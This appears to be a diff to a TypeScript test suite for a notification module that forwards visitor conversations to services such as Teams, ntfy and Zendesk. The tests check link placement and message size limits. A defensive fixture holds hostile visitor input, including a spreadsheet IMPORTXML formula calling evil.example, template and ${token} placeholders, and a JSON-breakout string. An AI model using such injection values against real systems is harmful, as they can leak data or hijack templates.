@@ -189,6 +189,30 @@ describe("a push message", () => {
   });
 });
 
+describe("a link to the conversation", () => {
+  const link = "https://relay.example.com/sessions/session_xyz789";
+
+  it.each(["teams", "ntfy", "pushover", "zendesk.ticket", "intercom.event", "freshdesk.ticket", "notion.page", "monday.item"])(
+    "stands in what %s is sent where people can reach the page, and nowhere else",
+    async (preset) => {
+      const { deliver, message } = open(preset);
+      sink.script(json(200, { data: { create_item: { id: "7" } }, id: "1", status: 1, request: "r", ticket: { id: 1 } }));
+      const view = viewOf();
+      await deliver(message({ ...view, session: { ...view.session, link } }));
+      const linked = sink.requests.map(({ body }) => decodeURIComponent(body.replaceAll("+", " "))).join();
+      expect(linked).toContain(link);
+      const before = sink.requests.length;
+      await deliver(message(view, { text: "another" }));
+      expect(
+        sink.requests
+          .slice(before)
+          .map(({ body }) => body)
+          .join(),
+      ).not.toMatch(/sessions|conversation"|OpenUrl|url_title|click/);
+    },
+  );
+});
+
 /** What a visitor may write to make trouble, and what the vendors measure. */
 const hostile = [
   ["words", `=IMPORTXML("http://evil.example","//a") &To=+1900 {{ event.agent }} \${token} "},{"a":"`],
@@ -211,6 +235,7 @@ describe("what a visitor writes stays a text, of a length that the vendor takes:
       ["whatsapp.message", { ...to, template: "escalation" }],
       ["ntfy", { topic: "acme" }],
       ["pushover", {}],
+      ["teams", {}],
     ];
     for (const [preset, more] of settings) {
       const { deliver, message } = open(preset, more);
@@ -229,11 +254,13 @@ describe("what a visitor writes stays a text, of a length that the vendor takes:
     expect(variables.join("")).not.toMatch(/[\n\t\r]| {4}/);
     expect(push?.get("message")?.length).toBeLessThanOrEqual(1_024);
     expect(push?.get("title")?.length).toBeLessThanOrEqual(250);
-    const [plain, parameters, pushed] = sink.requests.filter(({ body }) => body.startsWith("{")).map(({ body }) => JSON.parse(body));
+    const [plain, parameters, pushed, card] = sink.requests.filter(({ body }) => body.startsWith("{")).map(({ body }) => JSON.parse(body));
     expect(plain.text.body.length).toBeLessThanOrEqual(4_096);
     const texts = parameters.template.components[0].parameters.map((each: { text: string }) => each.text) as readonly string[];
     expect(texts.join("").length).toBeLessThanOrEqual(1_024);
     expect(texts.join("")).not.toMatch(/[\n\t\r]| {4}/);
+    expect(bytes(JSON.stringify(card))).toBeLessThanOrEqual(22_000);
+    expect(card.attachments[0].contentType).toBe("application/vnd.microsoft.card.adaptive");
     expect(bytes(pushed.message)).toBeLessThanOrEqual(4_096);
     expect(Object.keys(pushed).sort()).toEqual(["message", "priority", "tags", "title", "topic"]);
     expect(JSON.stringify(sink.requests.map(({ body }) => body))).not.toContain("\\ud83d�");
